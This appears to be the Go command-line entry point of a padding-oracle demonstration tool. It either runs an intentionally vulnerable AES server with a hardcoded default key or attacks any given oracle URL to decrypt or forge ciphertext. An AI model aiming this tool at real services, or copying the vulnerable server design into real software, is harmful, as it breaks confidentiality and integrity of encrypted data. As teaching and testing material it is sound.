// Command padoracle demonstrates the padding-oracle attack end to end. It
// either runs the deliberately vulnerable server, or attacks one:
//
//	padoracle -serve :8080
//	padoracle -url 'http://127.0.0.1:8080/payload/$' -encrypt 'hello, world'
//	padoracle -url 'http://127.0.0.1:8080/payload/$' -decrypt '<web64 of IV+ciphertext>'
//
// The URL template carries a '$' placeholder where the web64-encoded
// ciphertext is substituted.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"os/signal"

	"github.com/alesforz/padoracle/pocrack"
	"github.com/alesforz/padoracle/poweb"
)

func main() {
	var (
		serveAddr = flag.String("serve", "",
			"run the vulnerable demo server on this address instead of attacking")
		key = flag.String("key", "SuperSecretSauce",
			"demo server AES key (16, 24, or 32 bytes)")
		passphrase = flag.String("passphrase", "",
			"derive the demo server key from this passphrase with PBKDF2 instead of -key")
		salt = flag.String("salt", "padoracle",
			"PBKDF2 salt used with -passphrase")

		urlTemplate = flag.String("url", "",
			"oracle URL template containing the '$' ciphertext placeholder")
		encryptText = flag.String("encrypt", "",
			"plaintext to encrypt through the oracle")
		decryptText = flag.String("decrypt", "",
			"web64 ciphertext (IV first) to decrypt through the oracle")
		marker = flag.String("marker", "",
			"substring identifying an invalid-padding response body (default \"adding is incorrect\")")
		parallel = flag.Int("parallel", 1,
			"how many ciphertext blocks to recover concurrently when decrypting")
		blockSize = flag.Int("blocksize", 16,
			"cipher block size in bytes")
		verbose = flag.Bool("v", false,
			"log attack progress")
	)
	flag.Parse()

	if *serveAddr != "" {
		if err := serve(*serveAddr, *key, *passphrase, *salt); err != nil {
			fmt.Fprintf(os.Stderr, "padoracle: %s\n", err)
			os.Exit(1)
		}
		return
	}

	if err := attack(attackConfig{
		urlTemplate: *urlTemplate,
		encryptText: *encryptText,
		decryptText: *decryptText,
		marker:      *marker,
		parallel:    *parallel,
		blockSize:   *blockSize,
		verbose:     *verbose,
	}); err != nil {
		fmt.Fprintf(os.Stderr, "padoracle: %s\n", err)
		os.Exit(1)
	}
}

// serve runs the vulnerable demonstration server until interrupted.
func serve(addr, key, passphrase, salt string) error {
	var (
		srv *poweb.Server
		err error
	)
	if passphrase != "" {
		srv, err = poweb.NewServerFromPassphrase(passphrase, salt)
	} else {
		srv, err = poweb.NewServer([]byte(key))
	}
	if err != nil {
		return err
	}

	log.Printf("vulnerable demo server listening on %s", addr)
	log.Printf("try: GET /example, then attack GET /payload/{web64}")
	return http.ListenAndServe(addr, srv.Handler())
}

type attackConfig struct {
	urlTemplate string
	encryptText string
	decryptText string
	marker      string
	parallel    int
	blockSize   int
	verbose     bool
}

// attack drives the engine against a remote oracle in either encrypt or
// decrypt mode.
func attack(cfg attackConfig) error {
	if cfg.urlTemplate == "" {
		return fmt.Errorf("either -serve or -url is required")
	}
	if (cfg.encryptText == "") == (cfg.decryptText == "") {
		return fmt.Errorf("exactly one of -encrypt or -decrypt is required with -url")
	}

	var oracleOpts []poweb.HTTPOracleOption
	if cfg.marker != "" {
		oracleOpts = append(oracleOpts, poweb.WithMarker(cfg.marker))
	}
	httpOracle, err := poweb.NewHTTPOracle(cfg.urlTemplate, oracleOpts...)
	if err != nil {
		return err
	}

	crackerOpts := []pocrack.Option{
		pocrack.WithBlockSize(cfg.blockSize),
		pocrack.WithParallelism(cfg.parallel),
	}
	if cfg.verbose {
		crackerOpts = append(crackerOpts,
			pocrack.WithLogger(log.New(os.Stderr, "", log.Ltime)))
	}
	cracker, err := pocrack.New(httpOracle.Oracle(), crackerOpts...)
	if err != nil {
		return err
	}

	// cancel the attack on Ctrl-C instead of hammering the oracle
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	if cfg.encryptText != "" {
		forged, err := cracker.Encrypt(ctx, []byte(cfg.encryptText))
		if err != nil {
			return err
		}
		fmt.Println(poweb.EncodeWeb64(forged))
		return nil
	}

	raw, err := poweb.DecodeWeb64(cfg.decryptText)
	if err != nil {
		return err
	}
	if len(raw) < 2*cfg.blockSize {
		return fmt.Errorf("ciphertext must be an IV plus at least one block")
	}
	var (
		iv         = raw[:cfg.blockSize]
		cipherText = raw[cfg.blockSize:]
	)

	// A long attack against a non-oracle wastes thousands of requests;
	// make sure the endpoint leaks before starting.
	if err := cracker.ConfirmOracle(ctx, cipherText, iv); err != nil {
		return err
	}

	clearText, _, err := cracker.Decrypt(ctx, cipherText, iv)
	if err != nil {
		return err
	}
	fmt.Printf("%q\n", clearText)
	return nil
}
